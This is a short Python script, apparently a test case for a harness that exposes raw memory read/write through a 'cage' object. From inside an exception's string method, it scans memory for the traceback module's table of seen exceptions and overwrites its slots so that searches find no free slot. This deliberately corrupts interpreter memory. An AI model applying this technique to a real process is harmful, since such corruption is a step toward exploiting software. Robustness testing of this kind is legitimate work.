# The table of the exceptions that a traceback has shown is full, so a search in it finds no free slot.
import traceback
BA = None
class E(Exception):
    def __str__(self):
        global BA
        want = id(e3).to_bytes(4, "little")
        at, n = 0x1000000, 0
        while at < 0x1000000 + 0x400000:
            data = cage.read(at, 0x40000)
            p = -1
            while (p := data.find((64).to_bytes(4, "little"), p + 1)) >= 0:
                q = at + p
                if q % 8 == 4 and want in data[p + 4:p + 68] and q > 0x1000000:
                    cage.write(q + 4, b"\x01\x23\x45\x67" * 16); n += 1
            at += 0x40000 - 128
        print("tables", n)
        return "x"
e1 = ValueError("a"); e2 = ValueError("b"); e3 = E("c")
e3.__cause__ = e2; e2.__cause__ = e1
print(traceback.format_exception(e3)[-1] if attempt % 2 else "uncaught")
raise e3
